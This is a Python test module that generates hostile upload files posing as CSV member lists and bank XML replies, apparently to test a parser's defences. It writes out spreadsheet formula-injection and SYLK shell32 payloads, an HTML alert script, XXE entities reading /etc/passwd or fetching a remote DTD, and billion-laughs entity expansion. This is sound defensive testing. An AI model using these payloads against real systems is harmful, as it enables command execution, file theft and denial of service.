"""Lists as text that mean harm, and texts that only look like lists."""

from tests.uploads.corpus import MARK, Hostile, family

HEADERS = "姓名,证件号码,手机号,工会名称,工作单位"
WORD = MARK.decode()


def rows(*lines: str) -> str:
    return "\r\n".join([HEADERS, *lines])


@family
def list_with_a_null_in_it(rng):
    return Hostile("people.csv", rows(f"林\0{WORD},1,,,").encode(rng.choice(["utf-8", "gb18030"])))


@family
def list_in_another_encoding(rng):
    encoding = rng.choice(["utf-7", "utf-32", "utf-16-le", "utf-16-be", "cp500", "shift_jisx0213"])
    return Hostile("people.csv", rows(f"林,{WORD},1,x,y").encode(encoding, "replace"))


@family
def list_with_broken_characters(rng):
    broken = rng.choice([b"\xff\xfe\xff", b"\xed\xa0\x80\xff", b"\xc0\xaf", b"\x80" * 5])
    return Hostile("people.csv", rows("林,1,,,").encode() + broken + MARK)


@family
def list_with_a_giant_cell(rng):
    return Hostile(
        "people.csv", rows(f'"{WORD}' + "長" * rng.randrange(140_000, 400_000) + '",1,,,').encode()
    )


@family
def list_with_a_quote_that_never_closes(rng):
    return Hostile(
        "people.csv", rows(f'"{WORD},1,,,', *["林,1,,,"] * rng.randrange(1, 3000)).encode()
    )


@family
def list_of_very_many_columns(rng):
    wide = "," * rng.randrange(50_000, 300_000)
    return Hostile("people.csv", f"{wide}{WORD}\r\n{wide}\r\n".encode())


@family
def list_with_two_columns_of_one_name(rng):
    return Hostile("people.csv", f"姓名,姓名,证件号码\r\n{WORD},x,1\r\n".encode())


@family
def list_of_formulas(rng):
    start = rng.choice(["=", "+", "-", "@", "\t=", "＝", '"=', "%0A="])
    return Hostile(
        "people.csv", rows(*[f"{start}cmd|'/C {WORD}'!A0,{start}1+1,{start}2,,"] * 3).encode()
    )


@family
def list_without_people(rng):
    return Hostile(
        "people.csv", rows(*[",,,,"] * rng.randrange(1, 2000)).encode() + b"\r\n" + b" " * 9
    )


@family
def page_called_a_workbook(rng):
    kind = rng.choice(
        [
            "<html><table><tr><td>{}</td></tr></table><script>alert(1)</script></html>",
            '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook>{}</Workbook>',
            "MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n{}",
            'ID;PWXL;N;E\r\nC;X1;Y1;K0;ECALL("shell32","{}")\r\nE\r\n',
            'TABLE\r\n0,1\r\n"{}"\r\n',
        ]
    )
    return Hostile(
        rng.choice(["people.xls", "people.xlsx", "people.csv"]), kind.format(WORD).encode()
    )


@family
def answer_of_a_bank_that_expands(rng):
    depth = rng.randrange(5, 12)
    entities = "".join(
        f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, depth)
    )
    return Hostile(
        "answer.xml",
        (
            f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "{WORD}">{entities}]>'
            '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:pain.002.001.10">'
            f"&l{depth - 1};</Document>"
        ).encode(),
    )


@family
def answer_of_a_bank_that_reads_a_file(rng):
    place = rng.choice(["file:///etc/passwd", "http://192.0.2.1/x.dtd", "php://filter/x"])
    return Hostile(
        "answer.xml",
        f'<?xml version="1.0"?><!DOCTYPE d SYSTEM "{place}" [<!ENTITY x SYSTEM "{place}">]>'
        f"<Document>&x;{WORD}</Document>".encode(),
    )


@family
def answer_nested_without_end(rng):
    depth = rng.randrange(300, 40_000)
    return Hostile("answer.xml", b"<a>" * depth + MARK + b"</a>" * depth)


@family
def answer_of_separators_alone(rng):
    return Hostile(
        "answer.csv", rng.choice([b",", b"|", b"\n", b"\t", b'"']) * rng.randrange(2000, 400_000)
    )
